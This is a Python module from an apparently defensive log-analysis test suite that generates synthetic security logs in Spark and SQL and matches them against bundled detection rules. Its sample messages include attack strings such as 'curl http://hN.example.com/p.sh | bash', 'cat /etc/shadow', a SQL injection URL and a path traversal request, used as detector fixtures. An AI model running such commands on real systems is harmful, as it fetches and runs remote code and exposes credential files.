"""Security views of the test tables, in Spark and as SQL text.

The log view is one projection of ``events`` written in SQL both engines read;
alerts are the log view matched against the bundled rules.
"""

from __future__ import annotations

import uuid

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from tracehold.functions.regexes import to_java
from tracehold.operators.detect import detect
from tracehold.schema import LOG_FIELDS
from tracehold.session import stage
from tracehold.sources.rules import Rule, bundled_rules

DEFAULT_YEAR = 2024

_BASE = """
SELECT ts, event_id, user_id, event_type, value,
  CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k,
  CASE WHEN event_type IN ('error', 'signup') THEN 'auth' WHEN event_type = 'click' THEN 'apache'
       WHEN event_type = 'view' THEN 'syslog' ELSE 'firewall' END AS source_type,
  'host' || CAST(user_id % 5 AS STRING) AS hostname,
  CASE WHEN event_type = 'error' THEN 'WARN' ELSE 'INFO' END AS log_level,
  CASE WHEN user_id % 10 = 0 THEN 'root' ELSE 'user' || CAST(user_id AS STRING) END AS username,
  '10.0.' || CAST(user_id % 8 AS STRING) || '.' || CAST(user_id % 20 + 1 AS STRING) AS ip_address,
  CASE WHEN event_type IN ('error', 'signup') THEN 'sshd' WHEN event_type = 'click' THEN 'apache2'
       WHEN event_type = 'view' THEN 'bash' ELSE 'firewalld' END AS service
FROM {events}
"""

_LOGS = """
SELECT ts, event_id, user_id, event_type, value, k, {stamp} AS timestamp, source_type, hostname AS source_name,
  log_level, username, hostname, ip_address, service, CAST(event_id AS STRING) AS process_id,
  CASE
    WHEN event_type = 'error' AND k % 4 IN (0, 1) THEN 'Failed password for ' || username || ' from ' || ip_address || ' port 22 ssh2'
    WHEN event_type = 'error' AND k % 4 = 2 THEN 'Invalid user ' || username || ' from ' || ip_address
    WHEN event_type = 'error' THEN 'pam_unix(sshd:auth): authentication failure; user=' || username || ' rhost=' || ip_address
    WHEN event_type = 'signup' AND k % 3 = 0 THEN 'useradd ' || username
    WHEN event_type = 'signup' AND k % 3 = 1 THEN 'sudoers changed by user ' || username
    WHEN event_type = 'signup' THEN 'accepted publickey for user ' || username || ' from ' || ip_address
    WHEN event_type = 'click' AND k % 5 = 0 THEN 'GET /x?id=1 UNION SELECT a FROM b HTTP/1.1 200'
    WHEN event_type = 'click' AND k % 5 = 1 THEN 'GET /../../etc/passwd HTTP/1.1 200'
    WHEN event_type = 'click' THEN 'GET /item/' || CAST(k AS STRING) || ' HTTP/1.1 200'
    WHEN event_type = 'view' AND k % 5 = 0 THEN 'Command executed: curl http://h' || CAST(k AS STRING) || '.example.com/p.sh | bash'
    WHEN event_type = 'view' AND k % 5 = 1 THEN 'Command executed: cat /etc/shadow'
    WHEN event_type = 'view' AND k % 5 = 2 THEN 'authorized_keys modified'
    WHEN event_type = 'view' THEN 'session opened'
    ELSE 'outbound transfer: src=' || ip_address || ' dst=203.0.113.' || CAST(k AS STRING)
         || ' bytes=' || CAST(CAST(floor(value * 100000) AS BIGINT) AS STRING)
  END AS message
FROM base
"""

STAMP = "yyyy-MM-dd HH:mm:ss.SSSSSS"


def table(spark: SparkSession, folder: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{folder}/{name}.parquet")


def events(spark: SparkSession, folder: str) -> DataFrame:
    rows = table(spark, folder, "events")
    return rows.withColumn("ts", F.col("ts").cast("timestamp"))


def security_rows(rows: DataFrame) -> DataFrame:
    """The log view of an ``events``-shaped DataFrame, batch or streaming."""
    text = _LOGS.format(stamp="date_format(ts, 'yyyy-MM-dd HH:mm:ss')")
    spark, name = rows.sparkSession, f"_event_rows_{uuid.uuid4().hex}"
    rows.createOrReplaceTempView(name)
    view = spark.sql(f"WITH base AS ({_BASE.format(events=name)}) {text}")
    spark.catalog.dropTempView(name)  # the query is analyzed by now
    return view


def logs(spark: SparkSession, folder: str) -> DataFrame:
    """The log view: ten text columns plus ts, event_id and the source columns."""
    return security_rows(events(spark, folder))


def alerts(spark: SparkSession, folder: str) -> DataFrame:
    """Alerts of all bundled rules over the log view."""
    columns = ["ts", "event_id", *LOG_FIELDS]
    return detect(logs(spark, folder), bundled_rules()).select("RULE_ID", "SEVERITY", "DESCRIPTION", *columns)


def staged_alerts(spark: SparkSession, folder: str) -> DataFrame:
    """The alerts written once, for a query that reads them more than once."""
    return stage(alerts(spark, folder), "alerts")


def syslog_lines(rows: DataFrame) -> DataFrame:
    """Raw syslog lines the log view could have come from."""
    line = F.concat(
        F.date_format("ts", "MMM d HH:mm:ss"), F.lit(" "), F.col("hostname"), F.lit(" "), F.col("service"), F.lit("["),
        F.col("process_id"), F.lit("]: "), F.col("message"),
    )
    return rows.select("event_id", line.alias("value"))


def as_text(df: DataFrame) -> DataFrame:
    """Times as text and doubles rounded: the form results are compared in."""
    columns = []
    for f in df.schema.fields:
        kind = f.dataType.typeName()
        if kind in ("timestamp", "timestamp_ntz"):
            columns.append(F.date_format(f.name, STAMP).alias(f.name))
        elif kind in ("double", "float"):
            columns.append((F.round(f.name, 6) + F.lit(0.0)).alias(f.name))
        elif kind in ("integer", "short", "byte"):
            columns.append(F.col(f.name).cast("long").alias(f.name))
        else:
            columns.append(F.col(f.name))
    return df.select(*columns)


# ---------------------------------------------------------------- SQL text


def sql_text(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


LOGS_CTE = (
    "base AS (" + _BASE.format(events="events") + "), logs AS ("
    + _LOGS.format(stamp="strftime(ts, '%Y-%m-%d %H:%M:%S')") + ")"
)
LOG_LINE_SQL = " || chr(9) || ".join(f"coalesce({c}, '')" for c in LOG_FIELDS)
SYSLOG_SQL = (
    "strftime(ts, '%b %-d %H:%M:%S') || ' ' || hostname || ' ' || service || '[' || process_id || ']: ' || message"
)


def stamp_sql(column: str) -> str:
    return f"strftime({column}, '%Y-%m-%d %H:%M:%S.%f')"


def rule_sql(rule: Rule) -> str:
    """Condition of a rule over the log columns."""
    pattern = sql_text(to_java(rule.pattern))
    if rule.fields:
        test = " OR ".join(f"({LOG_FIELDS[i]} <> '' AND regexp_matches({LOG_FIELDS[i]}, {pattern}))" for i in rule.fields)
    else:
        test = f"regexp_matches({LOG_LINE_SQL}, {pattern})"
    if rule.negative_pattern:
        test = f"({test}) AND NOT regexp_matches({LOG_LINE_SQL}, {sql_text(to_java(rule.negative_pattern))})"
    return test


def alerts_cte(rules: list[Rule], source: str = "logs", name: str = "alerts") -> str:
    hits = ", ".join(f"CASE WHEN {rule_sql(r)} THEN {i} END" for i, r in enumerate(rules))
    catalog = ", ".join(f"({i}, {sql_text(r.rule_id)}, {sql_text(r.severity)}, {sql_text(r.description)})" for i, r in enumerate(rules))
    return (
        f"{name}_hit AS (SELECT *, unnest([{hits}]) AS rule_no FROM {source}), "
        f"{name}_rule(rule_no, RULE_ID, SEVERITY, DESCRIPTION) AS (VALUES {catalog}), "
        f"{name} AS (SELECT r.RULE_ID, r.SEVERITY, r.DESCRIPTION, h.* FROM {name}_hit h JOIN {name}_rule r ON h.rule_no = r.rule_no)"
    )


ALERTS_CTE = LOGS_CTE + ", " + alerts_cte(bundled_rules())

LEVEL_SQL = "CASE {0} WHEN 'CRITICAL' THEN 50 WHEN 'HIGH' THEN 40 WHEN 'MEDIUM' THEN 30 WHEN 'LOW' THEN 20 WHEN 'INFO' THEN 10 ELSE 0 END"


def level_sql(column: str = "SEVERITY") -> str:
    return LEVEL_SQL.format(column)


def level_name_sql(level: str) -> str:
    return (
        f"CASE WHEN {level} >= 50 THEN 'CRITICAL' WHEN {level} >= 40 THEN 'HIGH' WHEN {level} >= 30 THEN 'MEDIUM' "
        f"WHEN {level} >= 20 THEN 'LOW' ELSE 'INFO' END"
    )


def r6(expression: str) -> str:
    return f"round(CAST({expression} AS DOUBLE), 6) + 0.0"
